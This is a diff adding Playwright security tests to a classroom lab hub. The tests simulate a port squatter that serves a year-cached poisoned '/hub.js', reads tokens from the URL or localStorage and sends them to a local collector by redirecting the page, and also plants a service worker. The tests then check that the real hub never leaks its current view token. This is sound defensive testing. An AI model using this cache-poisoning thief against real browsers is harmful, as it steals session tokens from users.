@@ -4,6 +4,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { chromium, type BrowserContext, type Page } from '@playwright/test';
+import { startHub, type RunningHub } from '../../runner/classroom/hub.ts';
 import { chromiumArgs, chromiumExecutable } from '../chromium.ts';
 import { ChapterPage, expect, startRunner, test, testDist, type Runner } from './fixtures.ts';
 
@@ -22,6 +23,7 @@ class Loot {
   server: Server | undefined;
   port = 0;
   async start(): Promise<void> {
+    this.reports.length = 0;
     this.server = createServer((request, response) => {
       let body = '';
       request.on('data', (chunk: Buffer) => (body += chunk.toString()));
@@ -155,6 +157,52 @@ async function learnerSignsIn(page: Page, runner: Runner, loot: Loot): Promise<v
   await chapter.expectTerminal(/^hello from the cell$/m);
 }
 
+/**
+ * The hub's page script path (`/hub.js`, the same for every hub) answered with a thief, cached for
+ * a year. Under the real table's policy a `fetch` elsewhere is refused, so the thief first takes
+ * the page itself to the squatter's server, which no policy of the page stops.
+ */
+function hubCachePoisoner(loot: number) {
+  const script = `{
+  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href) || /^([A-Za-z0-9_-]{32})$/m.exec(Object.values(localStorage).join('\\n'));
+  if (found) location.href = 'http://127.0.0.1:${loot}/hub-navigation/' + encodeURIComponent('token ' + found[1]);
+}
+${thief(loot, 'hub-script')}`;
+  return (request: IncomingMessage, response: ServerResponse) => {
+    if (request.url === '/hub.js') {
+      response.writeHead(200, {
+        'Content-Type': 'text/javascript',
+        'Cache-Control': 'public, max-age=31536000, immutable',
+      });
+      response.end(script);
+      return;
+    }
+    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
+    response.end(
+      '<!doctype html><title>Classroom progress</title><script type="module" src="/hub.js"></script>',
+    );
+  };
+}
+
+/**
+ * Opens the view link the hub printed, as the instructor does. Settles on whichever comes first:
+ * the table live, or the squatter holding the view token.
+ */
+async function instructorOpens(page: Page, hub: RunningHub, loot: Loot): Promise<void> {
+  // Only until the page is committed: a thief that sends the page elsewhere stops its load.
+  await page.goto(`${hub.view}#token=${hub.viewToken}`, { waitUntil: 'commit' });
+  const status = page.locator('#connection');
+  await expect
+    .poll(async () => {
+      if (loot.has(hub.viewToken)) return 'the squatter has the view token';
+      return (await status.count()) > 0 && (await status.textContent()) === 'Live'
+        ? 'live'
+        : 'waiting';
+    })
+    .not.toBe('waiting');
+  expect(loot.has(hub.viewToken), 'the squatter saw the view token').toBe(false);
+}
+
 let context: BrowserContext;
 let profile: string;
 const loot = new Loot();
@@ -216,4 +264,53 @@ test('what a squatter on the port left in the browser never sees the token nor o
   }
   expect(loot.has(first.token) || loot.has(second.token), loot.reports.join('\n')).toBe(false);
   expect(loot.has('terminal opened'), loot.reports.join('\n')).toBe(false);
+});
+
+test('what a squatter on the hub’s port left in the browser never sees the view token', async () => {
+  const page = context.pages()[0] ?? (await context.newPage());
+  const home = mkdtempSync(join(tmpdir(), 'istio-lab-hub-'));
+  const hubOn = (port: number) =>
+    startHub({ host: '127.0.0.1', port, stateDir: home, log: () => undefined });
+  try {
+    // (b) The squatter holds the hub's port first, and the instructor's tab comes by: the
+    // table's script path is cached from it for a year.
+    const poisoner = await squat(0, hubCachePoisoner(loot.port));
+    const port = poisoner.port;
+    await page.goto(`http://127.0.0.1:${port}/?lang=en`);
+    await expect.poll(() => loot.has('hub-script/ran')).toBe(true);
+    await poisoner.close();
+
+    const first = await hubOn(port);
+    try {
+      await instructorOpens(page, first, loot);
+    } finally {
+      await first.close();
+    }
+
+    // (a) The hub stopped; the squatter takes the port again and answers the instructor's tab at
+    // that start's view address (a restored tab), installing its service worker there. The worker
+    // then reads what that origin kept: the earlier start's view token.
+    const planter = await squat(port, workerPlanter(loot.port));
+    await page.goto(first.view);
+    await expect.poll(() => loot.has('planted/worker')).toBe(true);
+    await page.goto(first.view);
+    await expect.poll(() => loot.has(`token ${first.viewToken}`)).toBe(true);
+    await planter.close();
+
+    const second = await hubOn(port);
+    try {
+      expect(second.joinToken, 'learners keep their join link').toBe(first.joinToken);
+      await instructorOpens(page, second, loot);
+      // What the squatter read is the earlier start's token, which this start refuses.
+      const earlier = await fetch(new URL('/api/learners', second.url), {
+        headers: { Authorization: `Bearer ${first.viewToken}` },
+      });
+      expect(earlier.status).toBe(401);
+    } finally {
+      await second.close();
+    }
+    expect(loot.has(second.viewToken), loot.reports.join('\n')).toBe(false);
+  } finally {
+    rmSync(home, { recursive: true, force: true });
+  }
 });
